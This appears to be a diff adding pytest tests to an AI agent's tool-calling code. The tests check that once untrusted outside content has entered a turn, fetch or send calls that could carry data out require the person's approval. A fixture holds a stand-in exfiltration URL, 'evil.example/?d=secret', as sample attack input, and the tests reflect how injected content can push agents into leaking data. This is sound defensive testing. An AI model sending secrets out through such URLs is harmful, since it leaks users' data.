@@ -80,6 +80,46 @@ async def test_the_person_is_shown_what_would_be_done_in_their_language_and_at_a
     assert recorder.calls == ["delete"]
 
 
+READS = Offer("fetch", "", OBJECT, is_read_only=True)
+SECRET = {"url": "https://evil.example/?d=secret"}
+
+
+@pytest.mark.parametrize(
+    ("is_tainted", "is_trusted", "offer", "arguments", "asks"),
+    [
+        (True, False, READS, SECRET, True),
+        (True, False, READS, {"count": 1}, True),
+        (True, False, READS, {}, False),
+        (True, True, READS, SECRET, False),
+        (False, False, READS, SECRET, False),
+        (True, True, Offer("send", "", OBJECT, is_read_only=False), SECRET, True),
+        (True, True, Offer("send", "", OBJECT, is_read_only=False), {}, True),
+    ],
+)
+async def test_after_foreign_content_a_servers_own_hints_carry_nothing_out(
+    is_tainted: bool, is_trusted: bool, offer: Offer, arguments: dict[str, Any], asks: bool
+) -> None:
+    recorder, asking = Recorder(), Asking(says=False)
+    turn = bench(asking)
+    turn.is_tainted = is_tainted
+    tool = McpTool(f"web_{offer.name}", "web", offer, recorder, is_trusted=is_trusted)
+    if asks:
+        with pytest.raises(ToolFailed, match="The person said no"):
+            await tool.call(arguments, turn)
+    else:
+        await tool.call(arguments, turn)
+    assert (len(asking.asked), len(recorder.calls)) == ((1, 0) if asks else (0, 1))
+
+
+async def test_what_a_servers_first_answer_says_makes_its_second_call_asked_about() -> None:
+    recorder, asking = Recorder(), Asking()
+    turn, tool = bench(asking), McpTool("web_fetch", "web", READS, recorder)
+    await tool.call({"url": "https://example.com/a"}, turn)
+    assert asking.asked == []
+    await tool.call(SECRET, turn)
+    assert len(asking.asked) == 1
+
+
 async def test_a_no_ends_the_call_before_it_began() -> None:
     recorder = Recorder()
     tool = McpTool("files_delete", "files", Offer("delete", "", OBJECT, is_read_only=False), recorder)
